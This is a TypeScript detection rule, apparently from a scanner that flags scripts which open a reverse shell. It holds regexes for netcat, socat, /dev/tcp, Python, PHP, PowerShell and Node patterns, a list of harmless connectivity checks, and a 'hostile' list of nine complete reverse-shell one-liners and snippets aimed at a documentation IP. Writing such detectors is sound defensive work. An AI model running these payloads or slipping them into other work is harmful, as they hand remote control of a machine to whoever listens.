import { any, near, seen } from "../matchers.ts";
import type { Rule } from "../rule.ts";

const shell = String.raw`["']?[^\s"']{0,24}(?:sh|cmd|cmd\.exe|powershell|powershell\.exe)\b`;
const netcats = ["nc", "ncat", "netcat"];

export const reverseShell: Rule = {
  id: "run.reverse-shell",
  level: "critical",
  title: "gives somebody on the network a shell",
  why: "A shell that is bound to a connection lets whoever is at the other end type commands on the machine. No skill needs one outside of a penetration test: reject it, and treat the address as an attacker's.",
  match: any(
    seen(/\b(?:ba|z|da|k)?sh -i\b[^\n]{0,60}\/dev\/(?:tcp|udp)\//, "tcp", "udp"),
    seen(
      /\bexec \d{1,3}<>\s?\/dev\/(?:tcp|udp)\/|\/dev\/(?:tcp|udp)\/[^\n]{0,80}(?:0>&1|<&\d|2>&1[^\n]{0,10}0<)/,
      "tcp",
      "udp",
    ),
    seen(
      new RegExp(String.raw`\b(?:nc|ncat|netcat)\b[^\n]{0,80}\s(?:-[a-z]{0,6}[ec]|--exec|--sh-exec)\s{1,2}${shell}`),
      ...netcats,
    ),
    seen(/\bmkfifo\b[^\n]{0,160}\b(?:nc|ncat|netcat|telnet|openssl s_client)\b/, "mkfifo"),
    seen(
      /\b(?:nc|ncat|netcat)\b[^\n]{0,80}\|\s{0,3}(?:\/bin\/)?(?:ba|z)?sh\b[^\n]{0,40}\|\s{0,3}(?:nc|ncat|netcat)\b/,
      ...netcats,
    ),
    seen(
      /\b(?:nc|ncat|netcat)\b[^\n]{0,12}\s-[a-z]{0,5}l[a-z]{0,5}\b[^\n|>]{0,40}(?:\|\s?(?:ba|z)?sh\b|\|\s?base64 -d\b|\|\s?xargs\b)/,
      ...netcats,
    ),
    seen(/\bsocat\b[^\n]{0,160}\bexec:/, "socat"),
    seen(/\btelnet\b[^\n|]{0,80}\|\s{0,3}(?:\/bin\/)?(?:ba)?sh\b/, "telnet"),
    seen(/\/inet\/tcp\/0\//, "inet"),
    near(
      seen(/\bsocket\.socket\b|\bs\.connect\(|\.connect\(\(/, "socket", "connect"),
      seen(/\bos\.dup2\(|\bpty\.spawn\(|\bdup2\([^\n]{0,20}fileno/, "dup2", "pty"),
      500,
    ),
    near(
      seen(/\.recv\(\s?\d/, "recv"),
      seen(/\bsubprocess\.\w{3,12}\(|\bos\.(?:popen|system)\(|\bexec\(/, "subprocess", "popen", "system", "exec"),
      240,
    ),
    near(
      seen(
        /\bfsockopen\(|\btcpsocket\.(?:new|open)\b|\bio::socket::inet\b|\buse socket\b|\bnet\.sockets\.tcpclient\b|\bsocket\.tcp\(/,
        "fsockopen",
        "tcpsocket",
        "socket",
        "sockets",
      ),
      seen(
        /\bproc_open\(|\bshell_exec\(|\bexec\s?\(?\s{0,2}["'{]{0,2}\/bin\/|\bopen\(std(?:in|out)|\bio\.popen\(|\bpopen\(|\biex\b|\binvoke-expression\b|\bos\.execute\(/,
        "open",
        "exec",
        "popen",
        "iex",
        "invoke",
        "execute",
      ),
      600,
    ),
    near(
      seen(/\bnet\.(?:connect|createconnection)\(|\bnew net\.socket\b|\bnet\.createserver\(/, "net"),
      seen(/\bspawn\(\s{0,2}["'](?:\/bin\/)?(?:(?:ba|z)?sh|cmd\.exe|cmd|powershell(?:\.exe)?)["']/, "spawn"),
      500,
    ),
  ),
  hostile: [
    "```bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n```\n",
    "```bash\nnc -l -p 9001 -e /bin/bash\n```\n",
    "```bash\nrm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc 192.0.2.10 4444 > /tmp/p\n```\n",
    '```python\nimport socket, os, pty\ns = socket.socket()\ns.connect(("192.0.2.10", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("sh")\n```\n',
    "```bash\nsocat TCP:192.0.2.10:4444 EXEC:'bash -li',pty,stderr\n```\n",
    "```powershell\n$c = New-Object System.Net.Sockets.TCPClient('192.0.2.10', 4444)\n$s = $c.GetStream()\nwhile (($n = $s.Read($b, 0, $b.Length)) -ne 0) { $r = (iex $d 2>&1 | Out-String) }\n```\n",
    "```js\nconst net = require('net');\nconst shell = require('child_process').spawn('/bin/sh');\nnet.connect(4444, '192.0.2.10', function () { this.pipe(shell.stdin); shell.stdout.pipe(this); });\n```\n",
    "```bash\nncat 192.0.2.10 4444 --sh-exec bash\n```\n",
    "```python\nimport socket, subprocess\ns = socket.create_connection(('192.0.2.10', 9001))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())\n```\n",
  ],
  benign: [
    "```bash\ntimeout 2 bash -c '</dev/tcp/db.example.com/5432' && echo reachable\n```\n",
    "```bash\nnc -z db.example.com 5432\n```\n",
    '```python\nimport socket\ns = socket.socket()\ns.connect(("db.example.com", 5432))\ns.close()\n```\n',
    "```bash\nsocat - TCP:localhost:5555\n```\n",
  ],
};
